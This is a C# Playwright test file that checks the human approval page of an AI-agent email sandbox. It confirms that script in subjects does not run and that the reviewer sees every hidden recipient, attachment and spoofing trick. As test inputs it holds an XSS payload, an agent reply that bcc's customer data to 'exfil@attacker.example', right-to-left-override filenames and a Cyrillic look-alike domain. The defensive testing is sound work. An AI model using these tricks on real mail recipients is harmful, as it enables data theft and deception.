using System;
using System.IO;
using System.Linq;
using System.Threading.Tasks;
using Microsoft.Playwright;
using MultiMail.Sandbox.Tests.Infrastructure;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace MultiMail.Sandbox.Tests;

/// <summary>
/// The review page in real headless Chromium (Debian's <c>/usr/bin/chromium</c>, driven by Microsoft.Playwright; no
/// browser is downloaded). A missing browser fails the test with a message naming ./test.sh, which installs it.
/// </summary>
public sealed class ReviewPageBrowserTests
{
    private const string ChromiumPath = "/usr/bin/chromium";

    private static readonly string[] ChromiumArgs =
    [
        "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
        "--disable-component-update", "--disable-sync",
    ];

    private static void AssertChromiumInstalled() =>
        Assert.True(File.Exists(ChromiumPath), "Chromium is missing at " + ChromiumPath + ": run ./test.sh from the repository root, which installs it (or: sudo apt-get install -y chromium).");

    [Fact]
    public async Task AnOperatorSignsInApprovesByClickingAndSeesTheMailDelivered()
    {
        AssertChromiumInstalled();
        await using var s = await TestSandbox.StartAsync();
        const string Subject = "<script>window.__pwned = 1</script>Quarterly report";
        var id = await s.SendAsync(body: new { to = new[] { "cfo@example.com" }, subject = Subject, markdown = "Revenue is up 12%." });
        var other = await s.SendAsync(body: new { to = new[] { "someone@example.com" }, subject = "Leave me pending", markdown = "x" });

        using var playwright = await Playwright.CreateAsync();
        await using var browser = await playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions
        {
            ExecutablePath = ChromiumPath,
            Headless = true,
            Args = ChromiumArgs,
        });
        var page = await browser.NewPageAsync();
        await page.GotoAsync(s.Sandbox.BaseAddress.ToString());

        // The agent's key is refused.
        await page.FillAsync("#api_key", s.Sandbox.AgentApiKey);
        await page.ClickAsync("#sign-in");
        await Expect(page.Locator("#login-error")).ToContainTextAsync("Agent keys (send scope) cannot sign in");

        // The oversight key gets in.
        await page.FillAsync("#api_key", s.Sandbox.OversightApiKey);
        await page.ClickAsync("#sign-in");
        await Expect(page.Locator("#pending-heading")).ToHaveTextAsync("Pending approval (2)");

        // The untrusted subject shows as text and nothing ran.
        var row = page.Locator("#pending tr[data-email-id='" + id + "']");
        await Expect(row.Locator("td.subject")).ToHaveTextAsync(Subject);
        Assert.Equal(0, await page.Locator("script").CountAsync());
        Assert.True(await page.EvaluateAsync<bool>("() => typeof window.__pwned === 'undefined'"));

        await row.Locator("input[name=reason]").FillAsync("Checked the figures");
        await row.Locator("button[value=approve]").ClickAsync();

        await Expect(page.Locator("#notice")).ToHaveTextAsync("Email " + id + ": approved_and_sent.");
        await Expect(page.Locator("#pending-heading")).ToHaveTextAsync("Pending approval (1)");
        await Expect(page.Locator("#pending tr[data-email-id='" + other + "']")).ToHaveCountAsync(1);
        await Expect(page.Locator("#outbox tr[data-email-id='" + id + "'] td.subject")).ToHaveTextAsync(Subject);
        await Expect(page.Locator("#audit")).ToContainTextAsync("oversight.approve");

        // The API agrees: delivered, approved by the oversight key, with the reason audited.
        var email = await s.ReadAsync(id);
        Assert.Equal("archived", email.Str("status"));
        Assert.Equal("key_oversight", email.Str("approved_by"));
        Assert.NotEqual(System.Text.Json.JsonValueKind.Null, email.Json.GetProperty("delivered_at").ValueKind);
        Assert.Equal(["cfo@example.com"], Assert.Single(s.OutboxFor(id)).Recipients);
        Assert.Contains(s.Sandbox.GetAuditLog(), e => e.Action == "oversight.approve" && e.ResourceId == id && e.MetadataJson!.Contains("Checked the figures", StringComparison.Ordinal));
        Assert.Equal("pending_send_approval", (await s.ReadAsync(other)).Str("status"));

        // The session cookie is HttpOnly: page script cannot read it.
        var cookies = await page.Context.CookiesAsync();
        Assert.True(cookies.Single(c => c.Name == "mm_review_session").HttpOnly);
    }

    [Fact]
    public async Task The_operator_sees_everything_that_would_leave_before_deciding()
    {
        AssertChromiumInstalled();
        await using var s = await TestSandbox.StartAsync();
        var inbound = await s.InboundAsync(from: "dana@example.com", subject: "Invoice 7", markdown: "Please pay invoice 7.");
        var csv = "name,email\nAda,ada@example.com\n";
        var reply = await s.Agent.Post("v1/mailboxes/" + s.Mailbox + "/reply/" + inbound, new
        {
            markdown = "Paid \u202Egpj.exe",
            bcc = new[] { "exfil@attacker.example" },
            attachments = new[]
            {
                new { name = "customers.csv", content_base64 = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(csv)), content_type = "text/csv" },
                new { name = "page.html", content_base64 = Convert.ToBase64String("<script>window.__pwned = 1</script>"u8.ToArray()), content_type = "text/html" },
            },
        });
        Assert.Equal(202, reply.Status);
        var replyId = reply.Str("id");
        var sendAt = s.Time.GetUtcNow().AddHours(3);
        var lookAlike = await s.SendAsync(body: new
        {
            to = new[] { "ceo@ex\u0430mple.com" },
            subject = "Wire \u202Etxt.exe",
            markdown = "Urgent",
            send_at = sendAt.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", System.Globalization.CultureInfo.InvariantCulture),
        });

        using var playwright = await Playwright.CreateAsync();
        await using var browser = await playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions { ExecutablePath = ChromiumPath, Headless = true, Args = ChromiumArgs });
        var context = await browser.NewContextAsync(new BrowserNewContextOptions { AcceptDownloads = true });
        var page = await context.NewPageAsync();
        await page.GotoAsync(s.Sandbox.BaseAddress.ToString());
        await page.FillAsync("#api_key", s.Sandbox.OversightApiKey);
        await page.ClickAsync("#sign-in");
        await Expect(page.Locator("#pending-heading")).ToHaveTextAsync("Pending approval (2)");

        // The reply: its hidden recipient, both attachments with type and size, a preview of the text one, and the email it answers.
        var row = page.Locator("#pending tr[data-email-id='" + replyId + "']");
        await Expect(row.Locator("td.to")).ToHaveTextAsync("dana@example.com");
        await Expect(row.Locator("td.bcc")).ToHaveTextAsync("exfil@attacker.example");
        var attachments = row.Locator("td.attachments li.attachment");
        await Expect(attachments).ToHaveCountAsync(2);
        await Expect(attachments.Nth(0)).ToContainTextAsync("customers.csv text/csv, " + csv.Length + " bytes");
        await Expect(attachments.Nth(0).Locator("pre.attachment-preview")).ToContainTextAsync("Ada,ada@example.com");
        await Expect(attachments.Nth(1)).ToContainTextAsync("page.html text/html, 35 bytes");
        await Expect(row.Locator("td.send-at")).ToHaveTextAsync("now, on approval");
        await Expect(row.Locator(".in-reply-to")).ToContainTextAsync("dana@example.com");
        await Expect(row.Locator(".in-reply-to-subject")).ToHaveTextAsync("Invoice 7");
        await Expect(row.Locator(".in-reply-to-body")).ToHaveTextAsync("Please pay invoice 7.");

        // The bidi override in the body is a visible marker, not a reordering.
        await Expect(row.Locator("td.body pre").First).ToHaveTextAsync("Paid [U+202E]gpj.exe");

        // Opening the HTML attachment downloads it; nothing runs in the page.
        var download = await page.RunAndWaitForDownloadAsync(() => attachments.Nth(1).Locator("a.open-attachment").ClickAsync());
        Assert.Equal("page.html", download.SuggestedFilename);
        var saved = await download.PathAsync();
        Assert.Equal("<script>window.__pwned = 1</script>", await File.ReadAllTextAsync(saved));
        Assert.True(await page.EvaluateAsync<bool>("() => typeof window.__pwned === 'undefined'"));
        Assert.EndsWith("/", page.Url, StringComparison.Ordinal);

        // The look-alike address: punycode and a mixed-script warning; the schedule; the subject's bidi marker.
        var other = page.Locator("#pending tr[data-email-id='" + lookAlike + "']");
        var punycode = "ceo@" + new System.Globalization.IdnMapping().GetAscii("ex\u0430mple.com");
        await Expect(other.Locator("td.to .punycode")).ToHaveTextAsync("(" + punycode + ")");
        await Expect(other.Locator("td.to .mixed-script")).ToContainTextAsync("mixed scripts (Cyrillic + Latin)");
        await Expect(other.Locator("td.send-at")).ToHaveTextAsync(Endpoints.Wire.Time(sendAt.ToUnixTimeMilliseconds()) + " (gate_first)");
        await Expect(other.Locator("td.subject")).ToHaveTextAsync("Wire [U+202E]txt.exe");

        // Approving the reply delivers exactly what was on the page.
        await row.Locator("button[value=approve]").ClickAsync();
        await Expect(page.Locator("#notice")).ToHaveTextAsync("Email " + replyId + ": approved_and_sent.");
        var sent = Assert.Single(s.OutboxFor(replyId));
        Assert.Equal(["dana@example.com"], sent.To);
        Assert.Equal(["exfil@attacker.example"], sent.Bcc);
        Assert.Equal(["customers.csv", "page.html"], sent.Attachments.Select(a => a.Name));
    }
}
